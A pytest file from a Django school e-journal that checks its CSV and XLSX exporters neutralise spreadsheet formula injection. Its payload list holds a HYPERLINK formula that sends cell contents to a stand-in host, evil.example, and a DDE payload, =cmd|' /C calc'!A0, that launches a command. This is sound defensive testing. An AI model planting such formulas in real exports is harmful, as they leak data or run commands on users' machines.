"""Text that people typed never leaves the product as a live spreadsheet formula: every
exporter (reports' XLSX, the events' XLSX, the КТП as CSV and XLSX) goes through
ejournal.core.spreadsheet, and a guard keeps new exporters on it."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
import time_machine
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from ejournal.core.spreadsheet import FORMULA_STARTS, csv_text, csv_untext
from ejournal.messaging.models import EventKind, EventParticipant, SchoolEvent
from ejournal.planning import services as planning_services
from ejournal.reports.exports import to_xlsx
from ejournal.reports.registry import Column, Figure, Group, ReportResult, Table, get_report

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
    "+7 900 000-00-00",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes, expected_texts=()) -> None:
    cells = _cells(content)
    formulas = [f"{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    values = {c.value for c in cells}
    for text in expected_texts:
        assert text in values, text  # kept exactly, as text


def test_csv_values_are_made_text_and_read_back_unchanged():
    for payload in PAYLOADS:
        assert csv_text(payload).startswith("'")
        assert csv_untext(csv_text(payload)) == payload
    assert csv_text("Обычная тема") == "Обычная тема"
    assert csv_text(5) == 5
    assert csv_untext("'обычный апостроф") == "'обычный апостроф"


def test_report_workbooks_carry_formula_text_as_text():
    evil = PAYLOADS[0]
    result = ReportResult(
        subtitle=evil,
        tables=[
            Table(
                title=evil,
                columns=[Column(evil), Column("Число", "decimal")],
                rows=[[p, None] for p in PAYLOADS],
                groups=[Group(evil, [[evil, None]], [evil, None])],
                totals=[evil, None],
            )
        ],
        headline=[Figure(evil, evil)],
        notes=[evil],
    )
    content = to_xlsx(
        report=get_report("student-data"), result=result, school_name=evil, formed=dt.date.today()
    )
    assert_no_formula(content, PAYLOADS)


@pytest.mark.parametrize("slug", ["student-data", "attendance-sheet"])
def test_a_pupils_name_typed_as_a_formula_stays_text_in_the_reports(world, client_for, slug):
    child = world.students[0]
    child.last_name = PAYLOADS[0]
    child.save()
    with time_machine.travel("2026-10-20 10:00 +0300", tick=False):
        response = client_for("deputy").get(
            f"/reports/{slug}/",
            {"school_class": world.school_class.pk, "date": "2026-10-20", "format": "xlsx"},
        )
    assert response.status_code == 200
    assert_no_formula(response.content)
    assert any(
        isinstance(c.value, str) and c.value.startswith("=HYPERLINK")
        for c in _cells(response.content)
    )


def test_the_events_workbook_keeps_titles_and_results_as_text(world, client_for):
    with time_machine.travel("2026-10-20 10:00 +0300", tick=False):
        event = SchoolEvent.objects.create(
            school=world.school,
            kind=EventKind.choices[0][0],
            title=PAYLOADS[0],
            place=PAYLOADS[3],
            starts_at=dt.datetime(2026, 10, 21, 12, 0, tzinfo=dt.UTC),
        )
        EventParticipant.objects.create(
            event=event, student=world.students[0], place=PAYLOADS[2], diploma=PAYLOADS[4]
        )
        response = client_for("deputy").get(reverse("messaging:event_report_xlsx"))
    assert response.status_code == 200
    assert_no_formula(response.content, [PAYLOADS[0], PAYLOADS[3], PAYLOADS[2], PAYLOADS[4]])


def _plan(world):
    plan = planning_services.thematic_plan_create(
        actor=None,
        year=world.year,
        subject=world.subject,
        group=world.group,
        grade=None,
        owner=world.staff["teacher"],
    )
    for number, payload in enumerate(PAYLOADS, start=1):
        planning_services.plan_item_add(
            actor=None, plan=plan, topic=payload, hours=1, kind="lesson", section=f"-{number}"
        )
    return plan


def test_the_ktp_csv_has_no_formula_and_imports_back_the_same(world, client_for):
    plan = _plan(world)
    response = client_for("teacher").get(reverse("planning:plan_export_csv", args=[plan.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), row
    copy = planning_services.thematic_plan_create(
        actor=None, year=world.year, subject=world.subject, group=None, grade=5, owner=None
    )
    planning_services.thematic_plan_import(
        actor=None, plan=copy, name="k.csv", content=response.content
    )
    assert list(copy.items.order_by("number").values_list("topic", flat=True)) == PAYLOADS


def test_the_ktp_workbook_has_no_formula(world, client_for):
    plan = _plan(world)
    response = client_for("teacher").get(reverse("planning:plan_export_xlsx", args=[plan.pk]))
    assert response.status_code == 200
    assert_no_formula(response.content, PAYLOADS)


def test_every_exporter_goes_through_the_one_helper():
    """A module that saves a workbook or writes CSV must use ejournal.core.spreadsheet."""
    root = Path(settings.BASE_DIR) / "ejournal"
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheet.py" or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        writes = re.search(r"\bcsv\.(writer|DictWriter)\(|\b(wb|workbook)\.save\(", text)
        if writes and "ejournal.core.spreadsheet" not in text:
            offenders.append(str(path.relative_to(root)))
        if re.search(r"\b(wb|workbook)\.save\(", text):
            offenders.append(f"{path.relative_to(root)}: saves a workbook itself")
    assert not offenders, offenders
